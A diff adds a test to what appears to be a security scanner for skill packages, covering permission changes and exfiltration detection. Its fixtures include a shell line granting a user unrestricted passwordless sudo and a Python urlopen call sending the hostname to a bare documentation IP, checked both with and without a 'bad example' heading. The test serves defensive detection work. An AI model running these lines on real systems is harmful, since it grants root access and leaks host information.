@@ -396,3 +396,29 @@ test('file names read as their kind: a Gemfile variant, a Makefile variant, a de
   );
   assert.deepEqual(hits({ 'SKILL.md': SKILL, 'templates/gitlab-ci.yml': 'variables:\n  SAST_DISABLED: "false"\n' }, 'sentinel/defence-off'), []);
 });
+
+test('a Dockerfile\'s sudo rules are the image\'s (review); a bare-IP sample under a "❌ MALO — …" heading is a labelled bad example', () => {
+  const df = ['FROM ros:humble', 'RUN useradd -m dev \\', ' && echo "dev ALL=(root) NOPASSWD: /usr/bin/apt-get" > /etc/sudoers.d/dev', 'USER dev', ''].join(
+    '\n',
+  );
+  assert.deepEqual(hits({ 'SKILL.md': SKILL, 'docker/Dockerfile': df }, 'sentinel/permission-change'), ['docker/Dockerfile:3:54 warning']);
+  assert.deepEqual(
+    hits({ 'SKILL.md': SKILL, 'scripts/setup.sh': '#!/bin/sh\necho "dev ALL=(ALL) NOPASSWD: ALL" > /etc/sudoers.d/dev\n' }, 'sentinel/permission-change'),
+    ['scripts/setup.sh:2:36 error'],
+  );
+  const deck = [
+    '# Taller',
+    '',
+    '## ❌ MALO — launch file que hace red al arrancar',
+    '',
+    '```python',
+    "urllib.request.urlopen('https://203.0.113.9/boot?h=' + socket.gethostname())",
+    '```',
+    '',
+  ].join('\n');
+  assert.deepEqual(hits({ 'SKILL.md': skill(['Usa `slides/deck.md`.']), 'slides/deck.md': deck }, 'sentinel/secret-exfiltration'), []);
+  assert.equal(
+    hits({ 'SKILL.md': skill(['Usa `slides/deck.md`.']), 'slides/deck.md': deck.replace('❌ MALO — ', '') }, 'sentinel/secret-exfiltration').length,
+    1,
+  );
+});
